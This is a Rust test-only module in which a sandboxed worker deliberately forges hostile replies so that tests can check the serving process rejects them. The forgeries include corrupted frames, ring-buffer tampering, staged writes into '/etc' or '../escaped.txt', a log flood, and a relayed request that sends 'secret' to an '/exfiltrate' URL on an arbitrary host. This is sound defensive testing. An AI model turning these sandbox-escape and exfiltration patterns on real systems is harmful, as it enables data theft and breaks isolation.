//! Test builds only: a worker that lies. Started with
//! `TOOLHOST_TEST_FORGE=CASE` (which the serving process passes on only in
//! a build with debug assertions, as it does `TOOLHOST_TEST_PRETEND_NO_WALLS`),
//! the worker runs each call honestly and then forges its answer as a
//! worker whose sandbox was broken could, so the tests can check that the
//! serving process trusts none of it:
//!
//! | case | what it sends |
//! |---|---|
//! | `not-pending` | the answer, numbered as another request's |
//! | `garbage` | a frame that is no message |
//! | `too-large` | a frame longer than its policy lets an answer be |
//! | `out-of-turn` | its answer on the socket, with no place kept in the ring |
//! | `ring-length` | a ring frame longer than a ring holds |
//! | `ring-counter` | the ring's written counter far past its size |
//! | `outside-grant` | its staged writes, said to be in a directory the call was not granted |
//! | `escape-path` | its staged writes, with a file outside the grant |
//! | `over-budget` | its staged writes, with a file past the write budget |
//! | `http:HOST:PORT` | a relayed request to `HOST:PORT` (not on the allow-list), before its answer |
//! | `flood` | reports past what its policy lets a call report, before its answer |

use crate::wire::{Channel, FromWorker};
use toolhost_contract::{ContextEvent, LogLevel};
use toolhost_runtime::RelayedRequest;

/// The environment variable that names the case.
pub const VAR: &str = "TOOLHOST_TEST_FORGE";

/// What to send instead of `reply`: `None` when the forgery was written
/// already (a raw frame).
pub async fn forge(case: &str, mut reply: FromWorker, channel: &mut Channel) -> Option<FromWorker> {
    let FromWorker::Executed(e) = &mut reply else {
        return Some(reply);
    };
    match case {
        "not-pending" => e.seq += 1000,
        "garbage" => {
            let _ = channel.write_frame(b"\xff\x00 not a message").await;
            return None;
        }
        "too-large" => {
            // Its place in the ring, then its length on the socket: the
            // rest never needs to come.
            if let Some(lanes) = channel.lanes() {
                let _ = lanes.push_marker();
            }
            let _ = channel.write_all(&(512u32 << 20).to_le_bytes()).await;
            return None;
        }
        "out-of-turn" => {
            // A whole frame on the socket, with no place in the ring.
            let frame = serde_json::to_vec(&reply).unwrap_or_default();
            let mut framed = u32::try_from(frame.len())
                .unwrap_or(0)
                .to_le_bytes()
                .to_vec();
            framed.extend_from_slice(&frame);
            let _ = channel.write_all(&framed).await;
            return None;
        }
        "ring-length" => {
            // A ring frame claiming more than a ring holds.
            if let Some(lanes) = channel.lanes() {
                lanes.push_header(64 << 20);
            }
            // A wake-up, in case the serving process has parked.
            let _ = channel.write_all(&[0; 4]).await;
            return None;
        }
        "ring-counter" => {
            // The ring's written counter far past its size.
            if let Some(lanes) = channel.lanes() {
                lanes.scribble();
            }
            // A wake-up, in case the serving process has parked.
            let _ = channel.write_all(&[0; 4]).await;
            return None;
        }
        "outside-grant" => {
            for (guest, root, _) in &mut e.staged {
                *guest = "/etc".into();
                *root = "/etc".into();
            }
        }
        "escape-path" | "over-budget" => {
            let (path, bytes) = match case {
                "escape-path" => ("../escaped.txt", 1),
                _ => ("big.txt", 1 << 20),
            };
            for (_, _, snapshot) in &mut e.staged {
                let mut v = serde_json::to_value(&*snapshot).unwrap_or_default();
                if let Some(nodes) = v.get_mut("nodes").and_then(|n| n.as_array_mut()) {
                    use base64::Engine as _;
                    let data = base64::engine::general_purpose::STANDARD.encode(vec![b'x'; bytes]);
                    nodes.push(
                        serde_json::json!([path, {"kind": "file", "base64": data, "mode": 0o644}]),
                    );
                }
                if let Ok(s) = serde_json::from_value(v) {
                    *snapshot = s;
                }
            }
        }
        http if http.starts_with("http:") => {
            let request = RelayedRequest {
                method: "GET".into(),
                uri: format!("http://{}/exfiltrate", &http["http:".len()..]),
                headers: Vec::new(),
                body: b"secret".to_vec(),
            };
            let _ = channel.write(&FromWorker::Http { id: 7, request }).await;
            // The serving process's answer, whatever it is, then the reply.
            let _ = channel.frame(std::time::Duration::ZERO).await;
        }
        "flood" => {
            for i in 0..100_000u32 {
                let event = ContextEvent::Log {
                    level: LogLevel::Info,
                    message: format!("flood {i}: {}", "x".repeat(1000)),
                };
                if channel.write(&FromWorker::Context { event }).await.is_err() {
                    return None;
                }
            }
        }
        _ => {}
    }
    Some(reply)
}
